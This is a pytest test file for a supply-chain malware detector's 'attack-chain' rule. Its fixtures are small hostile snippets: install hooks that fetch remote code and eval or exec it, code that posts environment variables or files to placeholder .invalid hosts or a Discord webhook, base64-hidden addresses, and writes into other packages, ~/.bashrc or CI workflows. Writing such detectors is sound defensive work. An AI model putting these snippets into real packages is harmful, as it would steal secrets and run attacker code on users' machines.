"""Chains of behaviour that only attacks show."""

from dataclasses import replace

import pytest

from pratique.analysis.chains import BY_ID, TEMPLATES
from pratique.analysis.chains.chain import Chain, ChainFamily, Link
from pratique.analysis.chains.policy import Certain, Code
from pratique.analysis.context import Context
from pratique.analysis.hosts import HostClass
from pratique.analysis.rules.attack_chain import attack_chain
from pratique.core.finding import Finding, Severity
from pratique.core.location import Location
from pratique.core.names import Ecosystem
from tests.analysis.inspecting import gem, npm, of_rule, package_json, wheel
from tests.analysis.rules.test_behaves_like_malware import subject

CHAIN = Chain(
    template="files-sent",
    family=ChainFamily.EXFILTRATION,
    link=Link.FLOW,
    context=Context.INSTALL,
    at_load=True,
    places=(Location("setup.js", 4), Location("setup.js", 2)),
    words="sends files away",
    host="drop.pratique.invalid",
)


def findings(chain: Chain, *before: Chain) -> list[Severity]:
    ecosystem = Ecosystem.PYPI if chain.places[0].path.endswith(".py") else Ecosystem.NPM
    seen = replace(subject(None), ecosystem=ecosystem, chains=(chain,), chains_before=before)
    return [finding.severity for finding in attack_chain.check(seen)]


def test_a_certain_chain_at_install_is_held_with_its_places() -> None:
    (finding,) = attack_chain.check(replace(subject(None), chains=(CHAIN,)))
    assert (Severity.CRITICAL, "at install it sends files away (drop.pratique.invalid)") == (
        finding.severity,
        finding.message,
    )
    assert CHAIN.places == finding.locations


def test_what_the_baseline_did_is_a_note() -> None:
    assert [Severity.MEDIUM] == findings(CHAIN, CHAIN)
    assert [Severity.CRITICAL] == findings(CHAIN, replace(CHAIN, host="other.invalid"))


def test_what_nothing_was_seen_to_show_is_a_note() -> None:
    assert not BY_ID["disk-wiped"].seen
    assert [Severity.MEDIUM] == findings(replace(CHAIN, template="disk-wiped"))


@pytest.mark.parametrize(
    "changes",
    [
        {"at_load": False},
        {"context": Context.CALLED},
        {"link": Link.FILE},
        {"template": "written-file-started"},
    ],
    ids=["called", "asked for by nobody", "one file", "an ordinary template"],
)
def test_weaker_chains_stay_quiet(changes: dict[str, object]) -> None:
    assert [] == findings(replace(CHAIN, **changes))  # type: ignore[arg-type]


IN_PYTHON = [
    template.id
    for template in TEMPLATES
    if template.seen and Certain(Link.FLOW, code=Code.PYTHON) in template.certain
]


@pytest.mark.parametrize("template", IN_PYTHON)
def test_what_sets_up_the_project_around_it_is_held_in_python_alone(template: str) -> None:
    chain = replace(CHAIN, template=template, context=Context.IMPORT, places=(Location("lib/a.rb", 4),))
    assert [] == findings(chain)
    assert [Severity.CRITICAL] == findings(replace(chain, places=(Location("parcel/a.py", 4),)))
    assert [] == findings(replace(chain, places=(Location("parcel/a.py", 4),), at_load=False))


def test_a_download_that_is_run_as_code_at_install_is_held() -> None:
    manifest = package_json(scripts={"postinstall": "node s.js"})
    code = "fetch('https://x.pratique.invalid/p').then(r => r.text()).then(eval)\n"
    found = of_rule(npm({"package.json": manifest, "s.js": code}), "attack-chain")
    assert "download-run-as-code" in {finding.evidence.partition(",")[0] for finding in found}


def test_a_client_that_somebody_calls_stays_quiet() -> None:
    code = "exports.get = u => fetch(u).then(r => r.text());\n"
    assert [] == of_rule(npm({"index.js": code}), "attack-chain")


def waiting(template: str, family: ChainFamily, kind: HostClass | None, **changes: object) -> Chain:
    made = replace(
        CHAIN, template=template, family=family, context=Context.CALLED, at_load=False, host_class=kind
    )
    return replace(made, **{"places": (Location("parcel/a.py", 4),), **changes})  # type: ignore[arg-type]


_OUT, _IN, _SEEN = ChainFamily.EXFILTRATION, ChainFamily.DROPPER, ChainFamily.SURVEILLANCE


@pytest.mark.parametrize(
    "chain",
    [
        waiting("files-sent", _OUT, HostClass.RAW_IP),
        waiting("identity-sent", _OUT, HostClass.TUNNEL, link=Link.SCOPE),
        waiting("secrets-sent", _OUT, HostClass.FREE_HOSTING),
        waiting("environment-dumped", _OUT, HostClass.UNKNOWN),
        waiting("download-started", _IN, HostClass.FILE_DROP),
        waiting("download-run-as-code", _IN, HostClass.UNKNOWN, context=Context.IMPORT),
        waiting("download-run-as-code", _IN, HostClass.UNKNOWN, depth=1),
        waiting("download-written-and-started", _IN, HostClass.CODE_HOST_RAW),
        waiting("keys-sent", _SEEN, None, link=Link.SCOPE),
        waiting("wallets-taken", ChainFamily.WALLET, None, link=Link.SCOPE),
        waiting("miner-started", ChainFamily.MINING, None),
        waiting("mail-copied", _OUT, None),
        waiting("cloud-files-sent", _OUT, HostClass.UNKNOWN, link=Link.SCOPE),
        waiting("socket-to-shell", ChainFamily.REVERSE_SHELL, None, link=Link.SCOPE),
        waiting("hidden-address-told", _OUT, HostClass.FREE_HOSTING, link=Link.FILE),
    ],
    ids=lambda chain: f"{chain.template} {chain.host_class}",
)
def test_python_that_waits_to_be_called_is_held_for_what_nobody_asks(chain: Chain) -> None:
    assert [Severity.CRITICAL] == findings(chain)


@pytest.mark.parametrize(
    "chain",
    [
        waiting("files-sent", _OUT, HostClass.UNKNOWN),
        waiting("files-sent", _OUT, HostClass.WEBHOOK),
        waiting("files-sent", _OUT, HostClass.RAW_IP, link=Link.FILE),
        waiting("secrets-sent", _OUT, HostClass.FREE_HOSTING, link=Link.SCOPE),
        waiting("files-sent", _OUT, HostClass.FREE_HOSTING),
        waiting("files-sent", _OUT, HostClass.RAW_IP, places=(Location("a.js", 4),)),
        waiting("download-run-as-code", _IN, HostClass.UNKNOWN),
        waiting("download-written-and-started", _IN, HostClass.UNKNOWN, link=Link.SCOPE),
        waiting("download-started", _IN, HostClass.UNKNOWN),
        waiting("hidden-address-told", _OUT, HostClass.UNKNOWN, link=Link.FILE),
        waiting("browser-data-taken", _SEEN, None),
    ],
    ids=lambda chain: f"{chain.template} {chain.host_class}",
)
def test_what_clients_and_tools_do_when_called_stays_quiet(chain: Chain) -> None:
    assert [] == findings(chain)


@pytest.mark.parametrize(
    ("path", "held"), [("parcel/a.py", 1), ("parcel/b.py", 0)], ids=["the same file", "another file"]
)
def test_who_watches_and_writes_to_a_mailbox_of_its_own_is_held(path: str, held: int) -> None:
    keys = waiting("keys-sent", _SEEN, HostClass.UNKNOWN, link=Link.FILE)
    mail = waiting("own-mailbox-written-to", _OUT, HostClass.UNKNOWN, places=(Location(path, 9),))
    seen = replace(subject(None), ecosystem=Ecosystem.PYPI, chains=(keys, mail))

    assert held == len(list(attack_chain.check(seen)))


def test_what_goes_to_an_address_that_stands_in_an_encoding_alone_is_held() -> None:
    sent = waiting("secrets-sent", _OUT, HostClass.UNKNOWN)
    hidden = waiting("hidden-address-told", _OUT, HostClass.UNKNOWN, link=Link.FILE)
    seen = replace(subject(None), ecosystem=Ecosystem.PYPI, chains=(sent, hidden))
    assert ["secrets-sent, linked by flow"] == [finding.evidence for finding in attack_chain.check(seen)]


def test_browsers_and_wallets_together_are_held_wherever_they_stand() -> None:
    browsers = waiting("browser-data-taken", _SEEN, None, link=Link.FILE)
    wallets = waiting("wallets-sent", ChainFamily.WALLET, None, link=Link.FILE)
    seen = replace(subject(None), ecosystem=Ecosystem.PYPI, chains=(browsers, wallets))
    assert ["browser-data-taken, linked by file"] == [
        finding.evidence for finding in attack_chain.check(seen)
    ]


def test_a_mailbox_counts_with_its_whole_address_only() -> None:
    code = "import requests\ndef send(path):\n    requests.post('https://discord.com/api/webhooks/{}', data=open(path).read())\n"
    whole = code.replace("{}", "1234567890123456789/inert_marker_inert_marker_42")
    assert [] == of_rule(wheel({"parcel/__init__.py": code}), "attack-chain")
    assert of_rule(wheel({"parcel/__init__.py": whole}), "attack-chain")


def test_parts_in_several_files_that_run_at_load_are_held() -> None:
    files = {
        "parcel/__init__.py": "from .b import boot\nboot()\n",
        "parcel/b.py": "from .c import get\ndef boot():\n    exec(get())\n",
        "parcel/c.py": "import requests\ndef get():\n    return requests.get('https://x.pratique.invalid/p').text\n",
    }
    found = of_rule(wheel(files), "attack-chain")
    assert ["download-run-as-code, linked by flow; host-asked-and-code-run, linked by file"] == [
        finding.evidence for finding in found
    ]
    assert "host-asked-and-code-run" in found[0].evidence


LOADS = "exports.load = async address => new Function(await (await fetch(%s)).text())();"
TELLS = (
    "require('http').get('http://tell.invalid/?' + require('os').hostname() + JSON.stringify(process.env));"
)


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        (LOADS % "address", Severity.MEDIUM),
        (LOADS % "'https://code.invalid/a.js'", Severity.CRITICAL),
        (f"{TELLS}\n{LOADS % 'address'}", Severity.CRITICAL),
    ],
    ids=["for who calls it", "from an address of its own", "and does more"],
)
def test_a_script_that_loads_code_for_who_calls_it_is_a_note_where_nothing_else_speaks(
    code: str, severity: Severity
) -> None:
    found = of_rule(npm({"index.js": code}), "attack-chain")

    assert [severity] == [one.severity for one in found if "downloaded data as code" in one.message]


def test_python_that_an_npm_package_carries_along_waits_for_nobody() -> None:
    code = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoIm1hcmtlciIp'))\n"
    assert of_rule(wheel({"parcel/__init__.py": code}), "attack-chain")
    assert [] == of_rule(npm({"index.js": "", "deps/tool.py": code}), "attack-chain")
    hook = package_json(scripts={"install": "python deps/tool.py"})
    started = code + "run()\n"
    assert of_rule(npm({"package.json": hook, "deps/tool.py": started}), "attack-chain")


_FILES = (
    "const fs = require('fs'), extra = require('fs-extra'), os = require('os'), path = require('path');\n"
)


def installing(code: str) -> list[Finding]:
    """What is found in a package whose install script does something with its own `payload.js`."""
    hook = package_json(scripts={"postinstall": "node install.js"})
    files = {"package.json": hook, "payload.js": "1;", "install.js": _FILES + code}
    return of_rule(npm(files), "attack-chain")


@pytest.mark.parametrize(
    "code",
    [
        "fs.copyFileSync(__dirname + '/payload.js', '../other/index.js')",
        "fs.promises.rename('payload.js', path.join('..', '@scope', 'other', 'lib', 'index.cjs'))",
        "fs.copyFileSync(__dirname + '/payload.js', 'node_modules/other/index.js')",
        "extra.moveSync(__dirname + '/payload.js', '../../node_modules/other/index.js')",
        "fs.symlinkSync(__dirname + '/payload.js', 'node_modules/other/index.js')",
        "fs.copyFileSync(__dirname + '/payload.sh', path.join(os.homedir(), '.bashrc'))",
        "fs.cpSync('payload.sh', process.env.HOME + '/.bashrc')",
        "extra.copySync('payload.yml', '../../.github/workflows/lint.yml')",
        "extra.outputFileSync('../other/index.js', '1;')",
    ],
)
def test_what_is_copied_or_moved_among_the_files_of_others_is_held(code: str) -> None:
    assert installing(code)


@pytest.mark.parametrize(
    "code",
    [
        "fs.copyFileSync(__dirname + '/payload.js', __dirname + '/dist/index.js')",
        "fs.renameSync('payload.js', './dist/index.js')",
        "fs.copyFileSync(__dirname + '/payload.js', process.argv[2] + '/index.js')",
        "exports.put = folder => fs.copyFileSync(__dirname + '/payload.js', path.join(folder, 'index.js'))",
        "fs.copyFileSync('node_modules/other/index.js', 'dist/other.js')",
        "fs.copyFileSync('../other/index.js', 'dist/other.js')",
        "fs.symlinkSync(__dirname, '../../node_modules/sample')",
        "fs.copyFileSync('data.json', '../assets/data.json')",
    ],
)
def test_what_is_copied_into_a_folder_of_its_own_or_of_its_caller_is_quiet(code: str) -> None:
    assert [] == installing(code)


_UNSEEN = "require('child_process').spawn('tool', [], { detached: true, stdio: 'ignore' }).unref();"


def test_a_program_that_another_file_asks_for_unseen_is_not_certain_as_one_that_a_file_starts_by_itself() -> (
    None
):
    called = {"index.js": "require('./lib').find();\n", "lib.js": f"exports.find = () => {{ {_UNSEEN} }};\n"}
    assert of_rule(npm({"index.js": _UNSEEN}), "attack-chain")
    assert [] == of_rule(npm(called), "attack-chain")


RUBY_DUMP = "require 'net/http'\nmodule Sample\n  def self.run\n    Net::HTTP.post(URI('https://far.invalid/'), ENV.to_h.to_json)\n  end\nend\n"


def test_ruby_that_an_entry_point_reaches_is_held_when_it_is_called() -> None:
    reached = {"lib/sample.rb": "require 'sample/core'\n", "lib/sample/core.rb": RUBY_DUMP}
    assert of_rule(gem(reached), "attack-chain")
    assert [] == of_rule(
        gem({"lib/sample.rb": "module Sample\nend\n", "data/x.rb": RUBY_DUMP}), "attack-chain"
    )


DUMP = "const body = JSON.stringify(process.env);\nfetch('https://far.invalid/', { method: 'POST', body });\n"


@pytest.mark.parametrize(
    ("manifest", "held"),
    [
        ({"bin": {"sample": "lib/run.js"}}, True),
        ({"bin": {"sample": "cli.js"}}, True),
        ({}, False),
    ],
    ids=["a program", "asked for by a program", "asked for by nobody"],
)
def test_what_nobody_asks_of_a_program_is_held_when_the_package_brings_it(
    manifest: dict[str, object], held: bool
) -> None:
    files = {
        "package.json": package_json(main="index.js", **manifest),
        "index.js": "module.exports = 1;\n",
        "cli.js": "#!/usr/bin/env node\nrequire('./lib/run');\n",
        "lib/run.js": DUMP,
    }
    assert held is any(one.severity is Severity.CRITICAL for one in of_rule(npm(files), "attack-chain"))


def test_a_program_that_sends_its_own_token_is_a_client() -> None:
    code = "fetch('https://far.invalid/', { headers: { authorization: process.env.FAR_TOKEN } });\n"
    files = {"package.json": package_json(bin="cli.js"), "cli.js": f"#!/usr/bin/env node\n{code}"}
    assert not of_rule(npm(files), "attack-chain")


@pytest.mark.parametrize(
    ("address", "held"),
    [
        ("`https://${id}-dsn.far.invalid/${key}`", False),
        ("Buffer.from('aHR0cHM6Ly9rMS1kc24uZmFyLmludmFsaWQv', 'base64').toString() + key", True),
    ],
    ids=["a key is decoded", "the address is decoded"],
)
def test_only_an_address_whose_domain_is_decoded_is_hidden(address: str, held: bool) -> None:
    code = (
        "const id = 'K1';\nconst key = Buffer.from('c2VhcmNoLW9ubHk=', 'base64').toString();\n"
        f"exports.ask = body => fetch({address}, {{ method: 'POST', headers: {{ key }}, body }});\n"
    )
    assert held is bool(of_rule(npm({"index.js": code}), "attack-chain"))
